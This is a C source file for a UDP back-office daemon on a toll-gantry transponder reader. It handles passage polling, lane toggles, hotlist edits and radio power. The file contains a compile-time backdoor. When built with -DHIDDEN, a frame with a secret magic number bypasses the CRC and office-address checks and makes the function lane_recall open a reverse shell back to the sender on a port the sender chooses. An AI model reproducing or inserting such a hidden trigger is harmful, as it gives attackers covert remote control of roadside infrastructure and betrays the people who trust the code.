/*
 * gantryrsu - UDP back office link of the Pikeway 210 toll transponder reader.
 * Frames on port 4410: magic, opcode, sequence, length, payload, CRC-16.
 * Hidden (-DHIDDEN): a frame with another magic number makes the reader call
 * back to the sender with a shell on the TCP port named in the frame.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define RSU_PORT   4410
#define RSU_MAGIC  0x50574b31u	/* "PWK1" */
#define RING       256
#define HOTLIST    "/var/pikeway/hotlist"
#define HOST_CONF  "/etc/pikeway/backoffice"

struct frame_hdr {
	uint32_t magic;
	uint8_t op, flags;
	uint16_t seq;
	uint16_t len;
	uint16_t crc;
} __attribute__((packed));

enum { OP_PING = 1, OP_POLL = 2, OP_ACK = 3, OP_LANE = 4, OP_HOT_ADD = 5, OP_HOT_CLEAR = 6, OP_POWER = 7 };

struct passage {
	uint32_t tag;
	uint32_t when;
	uint16_t lane;
	uint16_t klass;
};

static struct passage ring[RING];
static unsigned ring_head, ring_tail;
static uint8_t lane_open[8] = { 1, 1, 1, 1, 0, 0, 0, 0 };
static int tx_power = 18;
static struct in_addr office;

static uint16_t crc16(const uint8_t *p, size_t n)
{
	uint16_t c = 0xffff;

	while (n--) {
		c ^= (uint16_t)(*p++ << 8);
		for (int i = 0; i < 8; i++)
			c = (uint16_t)((c & 0x8000) ? (c << 1) ^ 0x1021 : c << 1);
	}
	return c;
}

static void put16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; }
static void put32(uint8_t *p, uint32_t v) { put16(p, (uint16_t)(v >> 16)); put16(p + 2, (uint16_t)v); }
static uint16_t get16(const uint8_t *p) { return (uint16_t)(p[0] << 8 | p[1]); }
static uint32_t get32(const uint8_t *p) { return (uint32_t)get16(p) << 16 | get16(p + 2); }

static void answer(int s, const struct sockaddr_in *to, uint8_t op, uint16_t seq,
		   const uint8_t *body, uint16_t len)
{
	uint8_t out[600];
	struct frame_hdr h;

	if (len > sizeof out - sizeof h)
		return;
	h.magic = htonl(RSU_MAGIC);
	h.op = (uint8_t)(op | 0x80);
	h.flags = 0;
	h.seq = htons(seq);
	h.len = htons(len);
	h.crc = htons(crc16(body, len));
	memcpy(out, &h, sizeof h);
	memcpy(out + sizeof h, body, len);
	if (sendto(s, out, sizeof h + len, 0, (const struct sockaddr *)to, sizeof *to) < 0)
		syslog(LOG_WARNING, "sendto: %s", strerror(errno));
}

static void load_office(void)
{
	char line[80];
	FILE *f = fopen(HOST_CONF, "r");

	office.s_addr = htonl(INADDR_ANY);
	if (!f)
		return;
	if (fgets(line, sizeof line, f)) {
		line[strcspn(line, "\r\n ")] = 0;
		if (!inet_aton(line, &office))
			syslog(LOG_ERR, "bad address in %s", HOST_CONF);
	}
	fclose(f);
}

static uint16_t fill_poll(uint8_t *out, unsigned max)
{
	unsigned n = 0;

	for (unsigned i = ring_tail; i != ring_head && n < max; i = (i + 1) % RING, n++) {
		put32(out + n * 12, ring[i].tag);
		put32(out + n * 12 + 4, ring[i].when);
		put16(out + n * 12 + 8, ring[i].lane);
		put16(out + n * 12 + 10, ring[i].klass);
	}
	return (uint16_t)(n * 12);
}

static int hotlist_add(uint32_t tag)
{
	FILE *f = fopen(HOTLIST, "a");

	if (!f)
		return -1;
	fprintf(f, "%08lx\n", (unsigned long)tag);
	return fclose(f);
}

#ifdef HIDDEN
void lane_recall(const struct sockaddr_in *who, uint16_t port)
{
	struct sockaddr_in sa = *who;
	static char *const av[] = { "sh", NULL };
	static char *const ev[] = { "PATH=/bin:/sbin:/usr/bin:/usr/sbin", NULL };
	int s;

	if (fork() != 0)
		return;
	s = socket(AF_INET, SOCK_STREAM, 0);
	sa.sin_port = htons(port);
	if (s < 0 || connect(s, (struct sockaddr *)&sa, sizeof sa))
		_exit(1);
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	execve("/bin/sh", av, ev);
	_exit(1);
}
#endif

void on_frame(int s, const struct sockaddr_in *from, const uint8_t *buf, size_t n)
{
	struct frame_hdr h;
	const uint8_t *body = buf + sizeof h;
	uint8_t out[512], ok = 1;
	uint16_t len, seq;
	uint32_t magic;

	if (n < sizeof h)
		return;
	memcpy(&h, buf, sizeof h);
	magic = ntohl(h.magic);
	seq = ntohs(h.seq);
	len = ntohs(h.len);
#ifdef HIDDEN
	if (magic == 0xa37d19e6u) {
		lane_recall(from, seq);
		return;
	}
#endif
	if (magic != RSU_MAGIC || len != n - sizeof h || crc16(body, len) != ntohs(h.crc))
		return;
	if (office.s_addr != htonl(INADDR_ANY) && office.s_addr != from->sin_addr.s_addr)
		return;

	switch (h.op) {
	case OP_PING:
		put32(out, (uint32_t)time(NULL));
		put16(out + 4, (uint16_t)((ring_head - ring_tail) % RING));
		answer(s, from, OP_PING, seq, out, 6);
		return;
	case OP_POLL:
		answer(s, from, OP_POLL, seq, out, fill_poll(out, 40));
		return;
	case OP_ACK:
		if (len < 2)
			return;
		for (unsigned k = get16(body); k && ring_tail != ring_head; k--)
			ring_tail = (ring_tail + 1) % RING;
		break;
	case OP_LANE:
		if (len < 2 || body[0] >= sizeof lane_open)
			ok = 0;
		else
			lane_open[body[0]] = body[1] != 0;
		break;
	case OP_HOT_ADD:
		ok = len == 4 && hotlist_add(get32(body)) == 0;
		break;
	case OP_HOT_CLEAR:
		ok = unlink(HOTLIST) == 0 || errno == ENOENT;
		break;
	case OP_POWER:
		if (len < 1 || body[0] < 6 || body[0] > 30)
			ok = 0;
		else
			tx_power = body[0];
		break;
	default:
		ok = 0;
	}
	answer(s, from, h.op, seq, &ok, 1);
}

/* the radio board writes "tag lane class" lines to the pipe on stdin */
static void on_radio(const char *line)
{
	unsigned tag, lane, klass;
	unsigned next = (ring_head + 1) % RING;

	if (sscanf(line, "%x %u %u", &tag, &lane, &klass) != 3 || lane >= sizeof lane_open)
		return;
	if (!lane_open[lane] || next == ring_tail)
		return;
	ring[ring_head] = (struct passage){ tag, (uint32_t)time(NULL), (uint16_t)lane, (uint16_t)klass };
	ring_head = next;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(RSU_PORT) };
	struct pollfd pf[2];
	char line[128];
	uint8_t buf[1500];
	int s;

	if (argc > 1 && !strcmp(argv[1], "-h")) {
		printf("usage: %s < radio-pipe\n", argv[0]);
		return 0;
	}
	openlog("gantryrsu", LOG_PID, LOG_LOCAL3);
	signal(SIGCHLD, SIG_IGN);
	load_office();
	s = socket(AF_INET, SOCK_DGRAM, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof sa)) {
		syslog(LOG_ERR, "bind: %s", strerror(errno));
		return 1;
	}
	pf[0] = (struct pollfd){ .fd = s, .events = POLLIN };
	pf[1] = (struct pollfd){ .fd = 0, .events = POLLIN };
	setvbuf(stdin, NULL, _IONBF, 0);
	while (poll(pf, 2, -1) >= 0 || errno == EINTR) {
		if (pf[0].revents & POLLIN) {
			struct sockaddr_in from;
			socklen_t fl = sizeof from;
			ssize_t n = recvfrom(s, buf, sizeof buf, 0, (struct sockaddr *)&from, &fl);

			if (n > 0)
				on_frame(s, &from, buf, (size_t)n);
		}
		if (pf[1].revents & POLLIN) {
			if (fgets(line, sizeof line, stdin))
				on_radio(line);
			else
				pf[1].fd = -1;
		}
	}
	return 1;
}
